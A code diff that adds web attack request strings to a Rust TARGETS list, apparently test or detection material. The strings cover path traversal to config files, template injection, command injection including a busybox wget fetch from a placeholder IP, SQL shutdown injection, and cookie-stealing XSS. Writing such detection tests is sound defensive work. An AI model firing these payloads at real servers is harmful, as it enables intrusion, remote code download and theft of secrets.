@@ -28,6 +28,23 @@ const TARGETS: &[(&str, &str)] = &[
     ("GET", "/web.config"),
     ("GET", "/.aws/credentials.bak"),
     ("GET", "/wp-admin/setup-config.php?step=1"),
+    ("GET", "/view?file=..//..//..//app//config.php"),
+    ("GET", "/view?file=..%5C/..%5C/..%5C/app/config.php"),
+    ("GET", "/view?file=..%5C%5C..%5C%5C..%5C%5Capp%5C%5Cweb.cfg"),
+    ("GET", "/view?file=.%5C..%5C.%5C..%5Capp%5Cweb.cfg"),
+    ("GET", "/static/..//..//..//home/app/settings.cfg"),
+    ("GET", "/static/..%5C/..%5C/..%5C/home/app/settings.cfg"),
+    ("GET", "/page?name=%7B%7B+config+%7D%7D"),
+    ("GET", "/page?name=%7B%7B%20self%20%7D%7D"),
+    ("GET", "/page?name=%7B%7B+request.environ+%7D%7D"),
+    ("GET", "/ping?host=127.0.0.1;busybox+wget+http://192.0.2.1/x"),
+    ("GET", "/page?x=AAEAAAD/////AQAAAAAAAAAMAgAAAA"),
+    ("GET", "/list?x=1;id;"),
+    ("GET", "/list?x=1;hostname;"),
+    ("GET", "/view?file=/var/log/apache2/access.log"),
+    ("GET", "/q?x=1%27;+shutdown--"),
+    ("GET", "/s?x=%22+onerror=%22alert+(1)"),
+    ("GET", "/s?x=%27%2bdocument.cookie%2b%27"),
 ];
 
 /// What looks like these and is none.
